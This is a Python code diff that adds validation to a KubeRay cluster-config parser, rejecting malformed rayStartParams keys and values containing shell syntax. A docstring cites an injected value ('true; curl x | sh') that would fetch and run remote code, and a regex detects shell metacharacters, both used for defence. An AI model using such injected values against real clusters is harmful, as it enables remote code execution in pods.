@@ -279,6 +279,10 @@ def _kuberay(raw: dict[str, Any], source: str) -> ClusterYaml:
             f"{source}: spec.headGroupSpec.rayStartParams.labels: KubeRay >= 1.5 rejects labels in rayStartParams; "
             "use the head group's top-level labels mapping"
         )
+    head_params = head.get("rayStartParams")
+    if head_params is not None and not isinstance(head_params, dict):
+        raise DeepShareError(f"{source}: spec.headGroupSpec.rayStartParams: expected a mapping of ray start options")
+    _check_start_params(head_params or {}, f"{source}: spec.headGroupSpec.rayStartParams")
     groups = _get(raw, ("spec", "workerGroupSpecs"), list, source)
     if not groups:
         raise DeepShareError(f"{source}: spec.workerGroupSpecs: expected at least one GPU worker group")
@@ -339,6 +343,7 @@ def _kuberay_group(group: Any, where: str) -> tuple[WorkerType, bool]:
     if unquoted:  # the CRD's rayStartParams is a map of strings: kubectl refuses `num-gpus: 4`
         raise DeepShareError(f"{where}.rayStartParams.{unquoted[0]}: expected a string (quote it: KubeRay's CRD "
                              f"takes strings only), got {params[unquoted[0]]!r}")
+    _check_start_params(params, f"{where}.rayStartParams")
     count = params.get("num-gpus", "")
     if not _DIGITS.fullmatch(count):
         raise DeepShareError(f"{where}.rayStartParams.num-gpus: expected the GPUs per pod as a string integer "
@@ -358,6 +363,27 @@ def _kuberay_group(group: Any, where: str) -> tuple[WorkerType, bool]:
                 f"{where}.template.spec.containers[{i}].resources.limits.nvidia.com/gpu: {limit} differs from num-gpus {gpus}"
             )
     return WorkerType(name, gpus, lo, hi, hardware), suspend
+
+
+_START_KEY = re.compile(r"[a-z0-9][a-z0-9-]{0,63}")
+"""A ``ray start`` option name as a ``rayStartParams`` key (``num-gpus``, ``dashboard-host``)."""
+_SHELL_COMMAND = re.compile(r"[;&|<>`\n\r]|\$\(")
+"""Text that makes bash run something else: a command separator, a pipe, a redirection, a
+command substitution. (``$VAR`` stays: KubeRay's own examples pass ``node-ip-address: $MY_POD_IP``.)"""
+
+
+def _check_start_params(params: dict[str, Any], where: str) -> None:
+    """Every ``rayStartParams`` key is an option name and every value (but ``resources``, a quoted
+    JSON object, :func:`_kuberay_resources`) holds no shell command: KubeRay pastes each pair as
+    ``--KEY=VALUE`` into the ``ray start`` line bash runs in the pod, so ``block: "true; curl x |
+    sh"`` ran ``curl`` there, and a key is pasted the same way."""
+    for key, value in params.items():
+        if not isinstance(key, str) or not _START_KEY.fullmatch(key):
+            raise DeepShareError(f"{where}: {str(key)[:80]!r}: expected a ray start option name (lower-case letters, "
+                                 "digits and '-', as num-gpus)")
+        if key != "resources" and isinstance(value, str) and _SHELL_COMMAND.search(value):
+            raise DeepShareError(f"{where}.{key}: {value[:80]!r} holds shell syntax (; & | < > ` $( or a newline) "
+                                 "that bash would run in KubeRay's `ray start` line; expected a plain value")
 
 
 def _kuberay_resources(value: str, where: str) -> dict[str, Any]:
